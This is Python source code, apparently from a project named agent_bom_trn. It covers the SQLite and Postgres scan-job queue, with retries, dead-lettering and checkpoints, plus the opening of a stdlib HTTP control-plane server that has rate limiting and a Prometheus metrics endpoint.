        now = now if now is not None else time.time()
        with self._lock:
            depth = dict(self._conn.execute(
                "SELECT status, COUNT(*) FROM scan_queue GROUP BY status"
            ).fetchall())
            oldest = self._conn.execute(
                "SELECT MIN(enqueued_at) FROM scan_queue"
                " WHERE status = 'queued' AND not_before <= ?",
                (now,),
            ).fetchone()[0]
            lat = self._conn.execute(
                "SELECT AVG(claimed_at - enqueued_at), MAX(claimed_at - enqueued_at)"
                " FROM scan_queue WHERE claimed_at IS NOT NULL"
            ).fetchone()
            redeliveries = self._conn.execute(
                "SELECT COALESCE(SUM(MAX(attempts - 1, 0)), 0) FROM scan_queue"
            ).fetchone()[0]
        return {
            "depth": {status: int(n) for status, n in depth.items()},
            # 6 decimals: WAL + synchronous=NORMAL commits are sub-ms, so
            # 3-decimal rounding would collapse fresh-job ages to 0.0.
            "oldest_eligible_age_s": round(now - oldest, 6) if oldest is not None else 0.0,
            "claim_latency_avg_s": round(float(lat[0]), 6) if lat[0] is not None else 0.0,
            "claim_latency_max_s": round(float(lat[1]), 6) if lat[1] is not None else 0.0,
            "redeliveries": int(redeliveries),
            "dead_letter": int(depth.get("dead_letter", 0)),
        }

    def complete(self, job_id: str, worker_id: str) -> bool:
        with instrument.track("db:ack", job_id=job_id, outcome="done"):
            return self._finish(job_id, worker_id, "done", None)

    def fail(self, job_id: str, worker_id: str, error: str,
             retryable: bool = True) -> bool:
        """Record a failed delivery. Retryable failures requeue with
        exponential backoff until the job's attempt budget is spent, then
        (or when ``retryable=False``) the job dead-letters terminally."""
        with instrument.track("db:ack", job_id=job_id, outcome="fail"):
            with self._lock:
                row = self._conn.execute(
                    "SELECT attempts, max_attempts FROM scan_queue"
                    " WHERE id = ? AND claimed_by = ? AND status = 'claimed'",
                    (job_id, worker_id),
                ).fetchone()
                if row is None:
                    return False
                attempts, max_attempts = int(row[0]), int(row[1])
                if retryable and attempts < max_attempts:
                    cur = self._conn.execute(
                        "UPDATE scan_queue SET status = 'queued', claimed_by = NULL,"
                        " claimed_at = NULL, heartbeat_at = NULL, not_before = ?,"
                        " error = ? WHERE id = ? AND claimed_by = ?",
                        (time.time() + _backoff_delay_s(attempts), error[:2000],
                         job_id, worker_id),
                    )
                    self._conn.commit()
                    if cur.rowcount > 0:
                        record_dispatch("resilience", "queue_requeue")
                    return cur.rowcount > 0
            ok = self._finish(job_id, worker_id, "dead_letter", error[:2000])
            if ok:
                record_dispatch("resilience", "queue_dead_letter")
            return ok

    def _finish(self, job_id: str, worker_id: str, status: str, error: str | None) -> bool:
        with self._lock:
            cur = self._conn.execute(
                "UPDATE scan_queue SET status = ?, finished_at = ?, error = ?"
                " WHERE id = ? AND claimed_by = ?",
                (status, time.time(), error, job_id, worker_id),
            )
            self._conn.commit()
            return cur.rowcount > 0

    def reclaim_stale(self, visibility_timeout_s: float | None = None) -> int:
        """Claimed jobs whose worker stopped heartbeating go back to queued —
        attempts preserved, so a job that keeps killing its worker still
        dead-letters once its budget is spent (handled here for jobs that
        died on their final attempt). Default timeout comes from
        ``AGENT_BOM_QUEUE_VISIBILITY_S`` (read at call time so tests and
        the chaos harness can tune it)."""
        if visibility_timeout_s is None:
            visibility_timeout_s = config.QUEUE_VISIBILITY_S
        cutoff = time.time() - visibility_timeout_s
        with self._lock:
            dead = self._conn.execute(
                "UPDATE scan_queue SET status = 'dead_letter', finished_at = ?,"
                " error = COALESCE(error, 'worker died on final attempt')"
                " WHERE status = 'claimed' AND heartbeat_at < ?"
                " AND attempts >= max_attempts",
                (time.time(), cutoff),
            ).rowcount
            requeued = self._conn.execute(
                "UPDATE scan_queue SET status = 'queued', claimed_by = NULL,"
                " claimed_at = NULL, heartbeat_at = NULL"
                " WHERE status = 'claimed' AND heartbeat_at < ?",
                (cutoff,),
            ).rowcount
            self._conn.commit()
        if dead:
            record_dispatch("resilience", "queue_dead_letter", dead)
        return dead + requeued

    def counts(self) -> dict[str, int]:
        with self._lock:
            rows = self._conn.execute(
                "SELECT status, COUNT(*) FROM scan_queue GROUP BY status"
            ).fetchall()
        return {status: count for status, count in rows}


_PG_DDL = """
CREATE TABLE IF NOT EXISTS scan_queue (
    id TEXT PRIMARY KEY,
    tenant_id TEXT NOT NULL,
    request TEXT NOT NULL,
    status TEXT NOT NULL DEFAULT 'queued',
    enqueued_at DOUBLE PRECISION NOT NULL,
    claimed_by TEXT,
    claimed_at DOUBLE PRECISION,
    heartbeat_at DOUBLE PRECISION,
    finished_at DOUBLE PRECISION,
    error TEXT,
    attempts INTEGER NOT NULL DEFAULT 0,
    max_attempts INTEGER NOT NULL DEFAULT 3,
    not_before DOUBLE PRECISION NOT NULL DEFAULT 0,
    trace_ctx TEXT
);
CREATE INDEX IF NOT EXISTS idx_queue_status ON scan_queue (status, enqueued_at);
CREATE TABLE IF NOT EXISTS fleet_workers (
    worker_id TEXT PRIMARY KEY,
    pid INTEGER,
    host TEXT,
    current_job TEXT,
    current_stage TEXT,
    claims INTEGER NOT NULL DEFAULT 0,
    completions INTEGER NOT NULL DEFAULT 0,
    failures INTEGER NOT NULL DEFAULT 0,
    first_seen DOUBLE PRECISION NOT NULL,
    last_seen DOUBLE PRECISION NOT NULL,
    slices_reused INTEGER NOT NULL DEFAULT 0,
    slices_rescanned INTEGER NOT NULL DEFAULT 0
);
"""

_PG_MIGRATE = (
    "ALTER TABLE scan_queue ADD COLUMN IF NOT EXISTS attempts INTEGER NOT NULL DEFAULT 0",
    "ALTER TABLE scan_queue ADD COLUMN IF NOT EXISTS max_attempts INTEGER NOT NULL DEFAULT 3",
    "ALTER TABLE scan_queue ADD COLUMN IF NOT EXISTS not_before DOUBLE PRECISION NOT NULL DEFAULT 0",
    "ALTER TABLE scan_queue ADD COLUMN IF NOT EXISTS trace_ctx TEXT",
    "ALTER TABLE fleet_workers ADD COLUMN IF NOT EXISTS slices_reused INTEGER NOT NULL DEFAULT 0",
    "ALTER TABLE fleet_workers ADD COLUMN IF NOT EXISTS slices_rescanned INTEGER NOT NULL DEFAULT 0",
)


class PostgresScanQueue:
    """FOR UPDATE SKIP LOCKED claim queue (multi-replica deployments)."""

    def __init__(self, dsn: str) -> None:
        import psycopg  # noqa: PLC0415 - gated dependency

        self._conn = instrument.InstrumentedConnection(
            psycopg.connect(dsn, autocommit=False),
            store="scan_queue", backend="postgres",
        )
        self._lock = threading.RLock()
        with self._lock, self._conn.cursor() as cur:
            cur.execute(_PG_DDL)
            for stmt in _PG_MIGRATE:
                cur.execute(stmt)
            cur.execute(PG_CHECKPOINT_DDL)
            self._conn.commit()

    def close(self) -> None:
        with self._lock:
            self._conn.close()

    def enqueue(self, request: dict[str, Any], tenant_id: str = "default",
                job_id: str | None = None, max_attempts: int | None = None,
                trace_ctx: str | None = None) -> str:
        job_id = job_id or str(uuid.uuid4())
        with instrument.track("db:enqueue", job_id=job_id), \
                self._lock, self._conn.cursor() as cur:
            cur.execute(
                "INSERT INTO scan_queue (id, tenant_id, request, status, enqueued_at,"
                " max_attempts, trace_ctx) VALUES (%s, %s, %s, 'queued', %s, %s, %s)",
                (job_id, tenant_id, json.dumps(request), time.time(),
                 max_attempts or config.QUEUE_MAX_ATTEMPTS, trace_ctx),
            )
            self._conn.commit()
        return job_id

    def claim(self, worker_id: str) -> dict[str, Any] | None:
        now = time.time()
        with instrument.track("db:claim", worker=worker_id), \
                self._lock, self._conn.cursor() as cur:
            cur.execute(
                "SELECT id, tenant_id, request, attempts, max_attempts, trace_ctx,"
                " enqueued_at FROM scan_queue"
                " WHERE status = 'queued' AND not_before <= %s"
                " ORDER BY enqueued_at LIMIT 1 FOR UPDATE SKIP LOCKED",
                (now,),
            )
            row = cur.fetchone()
            if row is None:
                self._conn.commit()
                return None
            cur.execute(
                "UPDATE scan_queue SET status = 'claimed', claimed_by = %s,"
                " claimed_at = %s, heartbeat_at = %s, attempts = attempts + 1"
                " WHERE id = %s",
                (worker_id, now, now, row[0]),
            )
            self._conn.commit()
        return {
            "id": row[0],
            "tenant_id": row[1],
            "request": json.loads(row[2]),
            "attempts": int(row[3]) + 1,
            "max_attempts": int(row[4]),
            "trace_ctx": row[5],
            "enqueued_at": float(row[6]),
        }

    def heartbeat(self, job_id: str, worker_id: str) -> bool:
        with self._lock, self._conn.cursor() as cur:
            cur.execute(
                "UPDATE scan_queue SET heartbeat_at = %s WHERE id = %s AND claimed_by = %s"
                " AND status = 'claimed'",
                (time.time(), job_id, worker_id),
            )
            changed = cur.rowcount > 0
            self._conn.commit()
            return changed

    def complete(self, job_id: str, worker_id: str) -> bool:
        with instrument.track("db:ack", job_id=job_id, outcome="done"):
            return self._finish(job_id, worker_id, "done", None)

    def fail(self, job_id: str, worker_id: str, error: str,
             retryable: bool = True) -> bool:
        with instrument.track("db:ack", job_id=job_id, outcome="fail"):
            with self._lock, self._conn.cursor() as cur:
                cur.execute(
                    "SELECT attempts, max_attempts FROM scan_queue"
                    " WHERE id = %s AND claimed_by = %s AND status = 'claimed'"
                    " FOR UPDATE",
                    (job_id, worker_id),
                )
                row = cur.fetchone()
                if row is None:
                    self._conn.commit()
                    return False
                attempts, max_attempts = int(row[0]), int(row[1])
                if retryable and attempts < max_attempts:
                    cur.execute(
                        "UPDATE scan_queue SET status = 'queued', claimed_by = NULL,"
                        " claimed_at = NULL, heartbeat_at = NULL, not_before = %s,"
                        " error = %s WHERE id = %s",
                        (time.time() + _backoff_delay_s(attempts), error[:2000], job_id),
                    )
                    changed = cur.rowcount > 0
                    self._conn.commit()
                    if changed:
                        record_dispatch("resilience", "queue_requeue")
                    return changed
                self._conn.commit()
            ok = self._finish(job_id, worker_id, "dead_letter", error[:2000])
            if ok:
                record_dispatch("resilience", "queue_dead_letter")
            return ok

    def _finish(self, job_id: str, worker_id: str, status: str, error: str | None) -> bool:
        with self._lock, self._conn.cursor() as cur:
            cur.execute(
                "UPDATE scan_queue SET status = %s, finished_at = %s, error = %s"
                " WHERE id = %s AND claimed_by = %s",
                (status, time.time(), error, job_id, worker_id),
            )
            changed = cur.rowcount > 0
            self._conn.commit()
            return changed

    def reclaim_stale(self, visibility_timeout_s: float | None = None) -> int:
        if visibility_timeout_s is None:
            visibility_timeout_s = config.QUEUE_VISIBILITY_S
        cutoff = time.time() - visibility_timeout_s
        with self._lock, self._conn.cursor() as cur:
            cur.execute(
                "UPDATE scan_queue SET status = 'dead_letter', finished_at = %s,"
                " error = COALESCE(error, 'worker died on final attempt')"
                " WHERE status = 'claimed' AND heartbeat_at < %s"
                " AND attempts >= max_attempts",
                (time.time(), cutoff),
            )
            dead = cur.rowcount
            cur.execute(
                "UPDATE scan_queue SET status = 'queued', claimed_by = NULL,"
                " claimed_at = NULL, heartbeat_at = NULL"
                " WHERE status = 'claimed' AND heartbeat_at < %s",
                (cutoff,),
            )
            requeued = cur.rowcount
            self._conn.commit()
        if dead:
            record_dispatch("resilience", "queue_dead_letter", dead)
        return dead + requeued

    def counts(self) -> dict[str, int]:
        with self._lock, self._conn.cursor() as cur:
            cur.execute("SELECT status, COUNT(*) FROM scan_queue GROUP BY status")
            rows = cur.fetchall()
            self._conn.commit()
        return {status: int(count) for status, count in rows}

    # ── worker fleet registry (contract parity with the SQLite twin) ────

    def worker_heartbeat(self, worker_id: str, *, pid: int | None = None,
                         host: str | None = None, job_id: str | None = None,
                         stage: str | None = None, claims: int = 0,
                         completions: int = 0, failures: int = 0,
                         slices_reused: int = 0,
                         slices_rescanned: int = 0) -> None:
        now = time.time()
        with self._lock, self._conn.cursor() as cur:
            cur.execute(
                "INSERT INTO fleet_workers (worker_id, pid, host, current_job,"
                " current_stage, claims, completions, failures, first_seen, last_seen,"
                " slices_reused, slices_rescanned)"
                " VALUES (%s, %s, %s, %s, %s, %s, %s, %s, %s, %s, %s, %s)"
                " ON CONFLICT (worker_id) DO UPDATE SET"
                " pid = COALESCE(excluded.pid, fleet_workers.pid),"
                " host = COALESCE(excluded.host, fleet_workers.host),"
                " current_job = excluded.current_job,"
                " current_stage = excluded.current_stage,"
                " claims = fleet_workers.claims + excluded.claims,"
                " completions = fleet_workers.completions + excluded.completions,"
                " failures = fleet_workers.failures + excluded.failures,"
                " slices_reused = fleet_workers.slices_reused + excluded.slices_reused,"
                " slices_rescanned ="
                "  fleet_workers.slices_rescanned + excluded.slices_rescanned,"
                " last_seen = excluded.last_seen",
                (worker_id, pid, host, job_id, stage,
                 claims, completions, failures, now, now,
                 slices_reused, slices_rescanned),
            )
            self._conn.commit()

    def workers(self, now: float | None = None) -> list[dict[str, Any]]:
        now = now if now is not None else time.time()
        with self._lock, self._conn.cursor() as cur:
            cur.execute(
                f"SELECT {_WORKER_COLS} FROM fleet_workers ORDER BY last_seen DESC"
            )
            rows = cur.fetchall()
            self._conn.commit()
        return [_worker_row_to_dict(r, now) for r in rows]

    def queue_stats(self, now: float | None = None) -> dict[str, Any]:
        now = now if now is not None else time.time()
        with self._lock, self._conn.cursor() as cur:
            cur.execute("SELECT status, COUNT(*) FROM scan_queue GROUP BY status")
            depth = {status: int(n) for status, n in cur.fetchall()}
            cur.execute(
                "SELECT MIN(enqueued_at) FROM scan_queue"
                " WHERE status = 'queued' AND not_before <= %s",
                (now,),
            )
            oldest = cur.fetchone()[0]
            cur.execute(
                "SELECT AVG(claimed_at - enqueued_at), MAX(claimed_at - enqueued_at)"
                " FROM scan_queue WHERE claimed_at IS NOT NULL"
            )
            lat = cur.fetchone()
            cur.execute(
                "SELECT COALESCE(SUM(GREATEST(attempts - 1, 0)), 0) FROM scan_queue"
            )
            redeliveries = cur.fetchone()[0]
            self._conn.commit()
        return {
            "depth": depth,
            "oldest_eligible_age_s": round(now - float(oldest), 6) if oldest is not None else 0.0,
            "claim_latency_avg_s": round(float(lat[0]), 6) if lat[0] is not None else 0.0,
            "claim_latency_max_s": round(float(lat[1]), 6) if lat[1] is not None else 0.0,
            "redeliveries": int(redeliveries),
            "dead_letter": int(depth.get("dead_letter", 0)),
        }

    # ── stage checkpoints + notify ledger (contract parity with the
    # SQLite mixin — psycopg placeholders, same semantics) ──────────────

    def save_checkpoint(self, job_id: str, stage: str, fingerprint: str,
                        output_digest: str, payload: bytes | None,
                        encoding: str) -> None:
        with instrument.track("db:checkpoint_write", job_id=job_id, stage=stage), \
                self._lock, self._conn.cursor() as cur:
            cur.execute(
                "INSERT INTO scan_checkpoints"
                " (job_id, stage, fingerprint, output_digest, encoding, payload, created_at)"
                " VALUES (%s, %s, %s, %s, %s, %s, %s)"
                " ON CONFLICT (job_id, stage) DO UPDATE SET fingerprint = EXCLUDED.fingerprint,"
                " output_digest = EXCLUDED.output_digest, encoding = EXCLUDED.encoding,"
                " payload = EXCLUDED.payload, created_at = EXCLUDED.created_at",
                (job_id, stage, fingerprint, output_digest, encoding, payload, time.time()),
            )
            self._conn.commit()

    def get_checkpoint(self, job_id: str, stage: str) -> dict[str, Any] | None:
        with instrument.track("db:checkpoint_read", job_id=job_id, stage=stage), \
                self._lock, self._conn.cursor() as cur:
            cur.execute(
                "SELECT fingerprint, output_digest, encoding, payload, created_at"
                " FROM scan_checkpoints WHERE job_id = %s AND stage = %s",
                (job_id, stage),
            )
            row = cur.fetchone()
            self._conn.commit()
        if row is None:
            return None
        payload = bytes(row[3]) if row[3] is not None else None
        return {
            "stage": stage,
            "fingerprint": row[0],
            "output_digest": row[1],
            "encoding": row[2],
            "payload": payload,
            "created_at": row[4],
        }

    def list_checkpoints(self, job_id: str) -> list[dict[str, Any]]:
        with self._lock, self._conn.cursor() as cur:
            cur.execute(
                "SELECT stage, fingerprint, output_digest, encoding, created_at"
                " FROM scan_checkpoints WHERE job_id = %s ORDER BY created_at",
                (job_id,),
            )
            rows = cur.fetchall()
            self._conn.commit()
        return [
            {"stage": r[0], "fingerprint": r[1], "output_digest": r[2],
             "encoding": r[3], "created_at": r[4]}
            for r in rows
        ]

    def clear_checkpoints(self, job_id: str) -> int:
        with self._lock, self._conn.cursor() as cur:
            cur.execute("DELETE FROM scan_checkpoints WHERE job_id = %s", (job_id,))
            cleared = cur.rowcount
            self._conn.commit()
            return cleared

    def save_slice_checkpoint(self, tenant_id: str, request_fp: str,
                              slice_fp: str, stage: str, output_digest: str,
                              payload: bytes | None, encoding: str,
                              job_id: str) -> None:
        with instrument.track("db:slice_write", stage=stage), \
                self._lock, self._conn.cursor() as cur:
            cur.execute(
                "INSERT INTO scan_slice_checkpoints"
                " (tenant_id, request_fp, slice_fp, stage, output_digest,"
                "  encoding, payload, job_id, created_at)"
                " VALUES (%s, %s, %s, %s, %s, %s, %s, %s, %s)"
                " ON CONFLICT (tenant_id, request_fp, slice_fp, stage) DO UPDATE SET"
                " output_digest = EXCLUDED.output_digest,"
                " encoding = EXCLUDED.encoding, payload = EXCLUDED.payload,"
                " job_id = EXCLUDED.job_id, created_at = EXCLUDED.created_at",
                (tenant_id, request_fp, slice_fp, stage, output_digest,
                 encoding, payload, job_id, time.time()),
            )
            self._conn.commit()

    def get_slice_checkpoint(self, tenant_id: str, request_fp: str,
                             slice_fp: str, stage: str) -> dict[str, Any] | None:
        with instrument.track("db:slice_read", stage=stage), \
                self._lock, self._conn.cursor() as cur:
            cur.execute(
                "SELECT output_digest, encoding, payload, job_id, created_at"
                " FROM scan_slice_checkpoints"
                " WHERE tenant_id = %s AND request_fp = %s AND slice_fp = %s"
                " AND stage = %s",
                (tenant_id, request_fp, slice_fp, stage),
            )
            row = cur.fetchone()
            self._conn.commit()
        if row is None:
            return None
        return {
            "tenant_id": tenant_id,
            "request_fp": request_fp,
            "slice_fp": slice_fp,
            "stage": stage,
            "output_digest": row[0],
            "encoding": row[1],
            "payload": bytes(row[2]) if row[2] is not None else None,
            "job_id": row[3],
            "created_at": row[4],
        }

    def count_slice_checkpoints(self, tenant_id: str | None = None) -> int:
        with self._lock, self._conn.cursor() as cur:
            if tenant_id is None:
                cur.execute("SELECT COUNT(*) FROM scan_slice_checkpoints")
            else:
                cur.execute(
                    "SELECT COUNT(*) FROM scan_slice_checkpoints WHERE tenant_id = %s",
                    (tenant_id,),
                )
            row = cur.fetchone()
            self._conn.commit()
        return int(row[0])

    def gc_checkpoints(self, retention: int, max_age_s: float = 0.0) -> dict[str, int]:
        """Retention GC — same policy as the SQLite mixin (keep the
        newest ``retention`` job chains, cap request_fp namespaces per
        tenant, sweep slice rows older than ``max_age_s``)."""
        jobs_deleted = 0
        slices_deleted = 0
        with self._lock, self._conn.cursor() as cur:
            if retention > 0:
                cur.execute(
                    "DELETE FROM scan_checkpoints WHERE job_id IN ("
                    " SELECT job_id FROM ("
                    "  SELECT job_id, MAX(created_at) AS newest"
                    "  FROM scan_checkpoints GROUP BY job_id"
                    "  ORDER BY newest DESC OFFSET %s) old_jobs)",
                    (retention,),
                )
                jobs_deleted = cur.rowcount
                cur.execute(
                    "DELETE FROM scan_slice_checkpoints WHERE (tenant_id, request_fp) IN ("
                    " SELECT tenant_id, request_fp FROM ("
                    "  SELECT tenant_id, request_fp, ROW_NUMBER() OVER ("
                    "   PARTITION BY tenant_id ORDER BY MAX(created_at) DESC) AS rn"
                    "  FROM scan_slice_checkpoints"
                    "  GROUP BY tenant_id, request_fp) ranked WHERE rn > %s)",
                    (retention,),
                )
                slices_deleted += cur.rowcount
            if max_age_s > 0:
                cur.execute(
                    "DELETE FROM scan_slice_checkpoints WHERE created_at < %s",
                    (time.time() - max_age_s,),
                )
                slices_deleted += cur.rowcount
            self._conn.commit()
        return {"jobs": jobs_deleted, "slices": slices_deleted}

    def notify_claim(self, dedupe_key: str, job_id: str, digest: str) -> bool:
        with self._lock, self._conn.cursor() as cur:
            cur.execute(
                "INSERT INTO notify_log (dedupe_key, job_id, doc_digest, state, created_at)"
                " VALUES (%s, %s, %s, 'pending', %s) ON CONFLICT (dedupe_key) DO NOTHING",
                (dedupe_key, job_id, digest, time.time()),
            )
            cur.execute("SELECT state FROM notify_log WHERE dedupe_key = %s", (dedupe_key,))
            row = cur.fetchone()
            self._conn.commit()
        return row is not None and row[0] != "delivered"

    def notify_mark_delivered(self, dedupe_key: str) -> None:
        with self._lock, self._conn.cursor() as cur:
            cur.execute(
                "UPDATE notify_log SET state = 'delivered', delivered_at = %s"
                " WHERE dedupe_key = %s",
                (time.time(), dedupe_key),
            )
            self._conn.commit()

    def notify_state(self, dedupe_key: str) -> str | None:
        with self._lock, self._conn.cursor() as cur:
            cur.execute("SELECT state FROM notify_log WHERE dedupe_key = %s", (dedupe_key,))
            row = cur.fetchone()
            self._conn.commit()
        return row[0] if row else None


def make_scan_queue(url_or_path: str):
    """postgres:// DSNs → PostgresScanQueue; anything else → SQLite file."""
    if url_or_path.startswith(("postgres://", "postgresql://")):
        return PostgresScanQueue(url_or_path)
    return SQLiteScanQueue(url_or_path)
