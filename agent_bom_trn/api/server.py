"""Control-plane HTTP server (stdlib ThreadingHTTPServer).

Reference parity: src/agent_bom/api/server.py + middleware.py — the
/v1/* wire contract with auth (loopback default; non-loopback requires
real auth or --allow-insecure-no-auth, reference README.md:90-92),
per-client rate limits, body-size caps, SSE scan progress, Prometheus
/metrics. The ASGI stack is replaced by an explicit router since the trn
image has no FastAPI/uvicorn.
"""

from __future__ import annotations

import json
import logging
import re
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any, Callable
from urllib.parse import parse_qs, unquote, urlparse

from agent_bom_trn import __version__, config
from agent_bom_trn.api import pipeline
from agent_bom_trn.api.auth import (
    NO_AUTH_CONTEXT,
    WILDCARD_TENANT,
    APIKeyRegistry,
    AuthContext,
)
from agent_bom_trn.api.stores import get_findings_store, get_graph_store, get_job_store
from agent_bom_trn.obs import event_bus
from agent_bom_trn.obs import mem as obs_mem
from agent_bom_trn.obs import profiler as obs_profiler
from agent_bom_trn.obs import propagation
from agent_bom_trn.obs import slo as obs_slo
from agent_bom_trn.obs import trace as obs_trace
from agent_bom_trn.obs.hist import bucket_snapshots, histogram_snapshots, observe
from agent_bom_trn.obs.trace import span as obs_span

logger = logging.getLogger(__name__)

Handler = Callable[["RequestContext"], tuple[int, dict[str, Any] | str]]

# (method, compiled, raw_pattern, handler) — the raw pattern doubles as
# the per-route latency histogram key ("GET /v1/findings"), keeping
# metric cardinality bounded by the route table, not by request paths.
_ROUTES: list[tuple[str, re.Pattern[str], str, Handler]] = []


def route(method: str, pattern: str) -> Callable[[Handler], Handler]:
    compiled = re.compile("^" + pattern + "$")

    def wrap(fn: Handler) -> Handler:
        _ROUTES.append((method, compiled, pattern, fn))
        return fn

    return wrap


class RequestContext:
    def __init__(
        self,
        method: str,
        path: str,
        query: dict[str, list[str]],
        body: bytes,
        headers: dict[str, str],
        params: dict[str, str],
        client_ip: str,
        auth: "AuthContext | None" = None,
    ) -> None:
        self.method = method
        self.path = path
        self.query = query
        self.body = body
        self.headers = headers
        self.params = params
        self.client_ip = client_ip
        self.auth = auth or NO_AUTH_CONTEXT
        # Tenant comes from the KEY's binding; the x-tenant-id header only
        # selects a tenant under a wildcard (multi-tenant admin) key.
        self.tenant_id = self.auth.resolve_tenant(headers.get("x-tenant-id"))

    def json(self) -> dict[str, Any]:
        if not self.body:
            return {}
        return json.loads(self.body.decode("utf-8"))

    def q(self, name: str, default: str = "") -> str:
        values = self.query.get(name)
        return values[0] if values else default

    def q_int(self, name: str, default: int) -> int:
        raw = self.q(name)
        if not raw:
            return default
        try:
            return int(raw)
        except ValueError:
            raise BadRequest(f"query parameter {name} must be an integer") from None


class BadRequest(Exception):
    """Client error surfaced as HTTP 400."""


_EVENT_KEYS = ("seq", "ts", "step", "state", "detail", "progress", "metrics")


def _canonical_event_json(event: dict[str, Any]) -> str:
    """One serializer for per-scan SSE data frames: the journal-replay
    path and the live bus path both reduce an event to the same
    journal-row keys in the same order, so a replayed frame is
    byte-identical to the frame a live watcher received."""
    return json.dumps({k: event.get(k) for k in _EVENT_KEYS}, default=str)


# Serializes runtime-event graph mutations (copy-mutate-persist).
_runtime_events_lock = threading.Lock()


class RateLimiter:
    """Fixed-window per-client limiter (reference: api/middleware.py RateLimit)."""

    def __init__(self, per_minute: int) -> None:
        self.per_minute = per_minute
        self._lock = threading.Lock()
        self._windows: dict[str, tuple[int, int]] = {}

    def allow(self, client: str) -> bool:
        window = int(time.time() // 60)
        with self._lock:
            w, count = self._windows.get(client, (window, 0))
            if w != window:
                w, count = window, 0
            count += 1
            self._windows[client] = (w, count)
            if len(self._windows) > 10000:
                self._windows = {
                    k: v for k, v in self._windows.items() if v[0] == window
                }
            return count <= self.per_minute


# ── Routes ──────────────────────────────────────────────────────────────


@route("GET", "/healthz")
def healthz(ctx: RequestContext):
    return 200, {"status": "ok", "version": __version__}


@route("GET", "/metrics")
def metrics(ctx: RequestContext):
    from agent_bom_trn.engine.telemetry import (  # noqa: PLC0415
        device_kernel_stats,
        dispatch_counts,
        stage_timings,
    )

    findings = get_findings_store()
    sev: dict[str, int] = {}
    for f in findings:
        sev[f.get("severity", "unknown")] = sev.get(f.get("severity", "unknown"), 0) + 1
    lines = [
        "# TYPE agent_bom_api_findings_total gauge",
    ]
    for s, c in sorted(sev.items()):
        lines.append(f'agent_bom_api_findings_total{{severity="{s}"}} {c}')
    store = get_graph_store()
    snaps = store.snapshots(limit=1)
    if snaps:
        lines.append("# TYPE agent_bom_graph_nodes gauge")
        lines.append(f"agent_bom_graph_nodes {snaps[0]['node_count']}")
        lines.append(f"agent_bom_graph_edges {snaps[0]['edge_count']}")
    # Engine surface: which backend path actually served each kernel, and
    # where pipeline wall-clock accumulated (same process-global counters
    # the bench reports — one obs surface, many readers).
    counts = dispatch_counts()
    if counts:
        lines.append("# TYPE agent_bom_engine_dispatch_total counter")
        for key, n in sorted(counts.items()):
            kernel, _, path = key.partition(":")
            lines.append(
                f'agent_bom_engine_dispatch_total{{kernel="{kernel}",path="{path}"}} {n}'
            )
    # Dispatch-decision surface: per-(family, reason) decline counters from
    # the decision ledger plus per-(family, rung) cost-model calibration
    # gauges — the mispricing alarm an operator can alert on without
    # pulling the full /v1/engine/dispatch document.
    from agent_bom_trn.obs import calibration as obs_calibration  # noqa: PLC0415
    from agent_bom_trn.obs import dispatch_ledger as obs_ledger  # noqa: PLC0415

    ledger_decisions = obs_ledger.decisions()
    if ledger_decisions:
        declines: dict[tuple[str, str], int] = {}
        for d in ledger_decisions:
            reasons = list(d.declines.values())
            if d.reason:
                reasons.append(d.reason)
            for reason in reasons:
                declines[(d.family, reason)] = declines.get((d.family, reason), 0) + 1
        if declines:
            lines.append("# TYPE agent_bom_dispatch_declines_total counter")
            for (family, reason), n in sorted(declines.items()):
                lines.append(
                    f'agent_bom_dispatch_declines_total{{family="{family}",'
                    f'reason="{reason}"}} {n}'
                )
        cal = obs_calibration.audit(ledger_decisions)
        if cal["families"]:
            lines.append("# TYPE agent_bom_dispatch_calibration_p95_log_ratio gauge")
            for key, stats in sorted(cal["families"].items()):
                family, _, rung = key.partition(":")
                lines.append(
                    f'agent_bom_dispatch_calibration_p95_log_ratio{{family="{family}",'
                    f'rung="{rung}"}} {stats["p95_log_ratio"]}'
                )
            lines.append("# TYPE agent_bom_dispatch_calibration_bias gauge")
            for key, stats in sorted(cal["families"].items()):
                family, _, rung = key.partition(":")
                lines.append(
                    f'agent_bom_dispatch_calibration_bias{{family="{family}",'
                    f'rung="{rung}"}} {stats["bias"]}'
                )
            lines.append("# TYPE agent_bom_dispatch_mispriced_rungs gauge")
            lines.append(f"agent_bom_dispatch_mispriced_rungs {len(cal['mispriced'])}")
    # Resilience surface: the resilience:* slice of the dispatch counters
    # re-exported under its own family (retries, fault injections,
    # degradations, breaker transitions), plus a live per-endpoint
    # breaker state gauge from the registry.
    res = {k.partition(":")[2]: n for k, n in counts.items() if k.startswith("resilience:")}
    if res:
        lines.append("# TYPE agent_bom_resilience_total counter")
        for event, n in sorted(res.items()):
            lines.append(f'agent_bom_resilience_total{{event="{event}"}} {n}')
    from agent_bom_trn.resilience import registry_snapshot  # noqa: PLC0415

    breakers = registry_snapshot()
    if breakers:
        state_code = {"closed": 0, "open": 1, "half_open": 2}
        lines.append("# TYPE agent_bom_breaker_state gauge")
        for endpoint, state in breakers.items():
            lines.append(
                f'agent_bom_breaker_state{{endpoint="{endpoint}",state="{state}"}} '
                f"{state_code.get(state, -1)}"
            )
    stages = stage_timings()
    if stages:
        lines.append("# TYPE agent_bom_stage_seconds_total counter")
        for stage, secs in sorted(stages.items()):
            lines.append(f'agent_bom_stage_seconds_total{{stage="{stage}"}} {secs}')
    device = device_kernel_stats()
    if device:
        lines.append("# TYPE agent_bom_device_time_seconds_total counter")
        for kernel, stats in sorted(device.items()):
            lines.append(
                f'agent_bom_device_time_seconds_total{{kernel="{kernel}"}} '
                f"{stats['device_time_s']}"
            )
        lines.append("# TYPE agent_bom_device_mfu gauge")
        for kernel, stats in sorted(device.items()):
            lines.append(f'agent_bom_device_mfu{{kernel="{kernel}"}} {stats["mfu"]}')
    # Latency distributions (API routes, gateway forwards, …) as
    # Prometheus summaries: quantiles + _count + _sum per histogram.
    hists = histogram_snapshots()
    if hists:
        lines.append("# TYPE agent_bom_latency_seconds summary")
        for name, snap in hists.items():
            for q, field in (("0.5", "p50"), ("0.95", "p95"), ("0.99", "p99")):
                lines.append(
                    f'agent_bom_latency_seconds{{name="{name}",quantile="{q}"}} '
                    f"{snap[field]}"
                )
            lines.append(f'agent_bom_latency_seconds_count{{name="{name}"}} {snap["count"]}')
            lines.append(f'agent_bom_latency_seconds_sum{{name="{name}"}} {snap["sum_s"]}')
        # The replica-aggregatable twin: cumulative _bucket series (sparse —
        # only occupied bounds) + the +Inf terminator. Quantiles above are
        # per-replica conveniences; Σ(_bucket) across scrapes is the real
        # fleet histogram.
        buckets = bucket_snapshots()
